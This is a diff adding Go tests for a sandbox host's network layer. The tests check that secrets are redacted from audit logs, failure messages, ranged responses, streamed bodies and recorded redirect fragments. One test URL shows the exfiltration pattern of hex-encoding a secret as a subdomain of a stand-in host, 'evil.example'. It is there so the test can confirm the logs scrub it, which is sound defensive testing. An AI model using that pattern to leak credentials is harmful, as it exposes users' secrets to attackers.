@@ -1,0 +1,171 @@
+package network_test
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/sluicehost/sluice/abi"
+	"github.com/sluicehost/sluice/host/network"
+)
+
+// R165: a connector that writes a secret which it has in plain into a URL
+// leaves none of it in the log of requests, not in the host either.
+func TestPlainSecretInURL(t *testing.T) {
+	base, e := serve(t, func(http.ResponseWriter, *http.Request) {})
+	var hops []network.Hop
+	c := client(t, network.Options{Audit: func(h network.Hop) { hops = append(hops, h) }}, e)
+	s := network.NewSession(c)
+	const plain = "Plain/Secret-9"
+	s.Protect("token", plain, [][]byte{[]byte(plain), []byte(url.PathEscape(plain)), []byte("506c61696e2f5365637265742d39")})
+	for _, u := range []string{
+		base + "/bot" + plain + "/me", base + "/" + url.PathEscape(plain), base + "/%50lain%2FSecret%2D9?x", base + "/506c61696e2f5365637265742d39",
+		"https://506C61696e2f5365637265742d39.evil.example/",
+	} {
+		_, _ = s.Handle(t.Context(), abi.CallNetworkRequest, frame(`{"method":"GET","url":"`+u+`"}`, ""))
+	}
+	if err := s.Close(); err != nil {
+		t.Fatal(err)
+	}
+	text := fmt.Sprint(hops)
+	if len(hops) != 5 || strings.Contains(text, "Secret") || strings.Contains(text, "506c") {
+		t.Errorf("%d lines: %s", len(hops), text)
+	}
+	if !strings.Contains(text, "/bot[REDACTED_SECRET]/me") {
+		t.Errorf("the rest of the path is not told: %s", text)
+	}
+}
+
+// R163: what a server says in place of an answer does not reach the guest with
+// a sealed value in it either.
+func TestSealedInFailure(t *testing.T) {
+	const secret = "hunter-two"
+	base, e := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/coding":
+			w.Header().Set("Content-Encoding", secret)
+		default:
+			http.Redirect(w, r, "https://"+secret+".example.com/", http.StatusFound)
+		}
+	})
+	seals := &network.Seals{}
+	seals.Add("token", handle, secret, [][]byte{[]byte(secret)}, nil)
+	c := client(t, network.Options{Seals: seals}, e)
+	for _, path := range []string{"/coding", "/host"} {
+		_, err := get(c, base+path)
+		if f := failure(t, err); strings.Contains(f.Message, secret) {
+			t.Errorf("%s: %s", path, f.Message)
+		}
+	}
+}
+
+// R163: a server that shows what it got gives the guest nothing of a sealed
+// value in pieces, nor as a kind of text that has no name of its own; what is no
+// text can be fetched in pieces.
+func TestSealedInParts(t *testing.T) {
+	const secret = "hunter-two"
+	base, e := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", strings.TrimPrefix(r.URL.Path, "/"))
+		http.ServeContent(w, r, "", time.Time{}, strings.NewReader("you sent "+r.Header.Get("X-Key")))
+	})
+	seals := &network.Seals{}
+	seals.Add("token", handle, secret, [][]byte{[]byte(secret)}, []abi.Destination{{Origin: base, Placements: []string{"header:x-key"}}})
+	c := client(t, network.Options{Seals: seals}, e)
+	ask := func(kind, part string) (*network.Response, error) {
+		q := &network.Request{Method: "GET", URL: base + "/" + kind, Headers: [][2]string{{"X-Key", handle}}}
+		if part != "" {
+			q.Headers = append(q.Headers, [2]string{"Range", part})
+		}
+		return c.Do(t.Context(), q)
+	}
+	for _, part := range []string{"bytes=0-12", "bytes=-5", "bytes=9-9,11-11", "bytes=0-12,13-20"} {
+		_, err := ask("text/plain", part)
+		if f := failure(t, err); f.Step != "header" {
+			t.Errorf("%s: %+v", part, f)
+		}
+	}
+	for _, kind := range []string{"text/plain", "application/yaml", "message/http", "application/jwt", "application/x-unheard-of", "multipart/mixed", "nonsense"} {
+		r, err := ask(kind, "")
+		if err != nil {
+			t.Fatal(kind, err)
+		}
+		if got := body(t, r); got != "you sent "+handle {
+			t.Errorf("%s: %q", kind, got)
+		}
+	}
+	r, err := ask("image/png", "bytes=0-2")
+	if err != nil || body(t, r) != "you" {
+		t.Error("a picture is not fetched in pieces", err)
+	}
+}
+
+// R163: a body that began before a token was obtained is searched for it too.
+func TestSealedWhileReading(t *testing.T) {
+	lines := make(chan string)
+	base, e := serve(t, func(w http.ResponseWriter, _ *http.Request) {
+		for line := range lines {
+			fmt.Fprint(w, line)
+			_ = http.NewResponseController(w).Flush()
+		}
+	})
+	seals := &network.Seals{}
+	current := func(context.Context, string) (string, error) { return "token-of-later", nil }
+	seals.AddCurrent("token", handle, current, nil)
+	c := client(t, network.Options{Seals: seals}, e)
+	go func() { lines <- "begun. " }()
+	r, err := get(c, base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b [7]byte
+	if _, err := io.ReadFull(r.Body, b[:]); err != nil {
+		t.Fatal(err)
+	}
+	seals.Echo(handle, [][]byte{[]byte("token-of-later")})
+	go func() {
+		lines <- "Bearer token-"
+		lines <- "of-later."
+		close(lines)
+	}()
+	if got := body(t, r); got != "Bearer "+handle+"." {
+		t.Errorf("the guest sees %q", got)
+	}
+}
+
+// S77: the patience of a request is one, however many turns it waits for.
+func TestOnePatience(t *testing.T) {
+	hops := 0
+	base, e := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		hops++
+		http.Redirect(w, r, "/again", http.StatusFound)
+	})
+	slow := network.NewGovernor(network.Pace{PerSecond: 5, Burst: 1, AtOnce: 1, LongestStop: time.Minute})
+	c := client(t, network.Options{Own: slow}, e)
+	began := time.Now()
+	_, err := c.Do(t.Context(), &network.Request{Method: "GET", URL: base, Redirect: "follow", Wait: 300 * time.Millisecond})
+	if f := failure(t, err); f.Errno != abi.ERATE || hops > 3 || time.Since(began) > 5*time.Second {
+		t.Errorf("%+v after %d hops and %v", f, hops, time.Since(began))
+	}
+}
+
+// A token that a server hands over in the fragment of a redirect is not in a
+// recording.
+func TestTokenInFragment(t *testing.T) {
+	base, e := serve(t, func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Location", "https://app.example/cb#access_token=FRAGMENT-TOKEN-1&state=x")
+		w.WriteHeader(http.StatusFound)
+	})
+	file, _ := recorded(t, e, network.Header{}, func(s *network.Session) {
+		if reply, errno := s.Handle(t.Context(), abi.CallNetworkRequest, frame(`{"method":"GET","url":"`+base+`","redirect":"manual"}`, "")); errno != abi.OK {
+			t.Fatal(string(reply))
+		}
+	})
+	if strings.Contains(file, "FRAGMENT-TOKEN") || !strings.Contains(file, "#access_token={{credential:1}}") {
+		t.Error(file)
+	}
+}
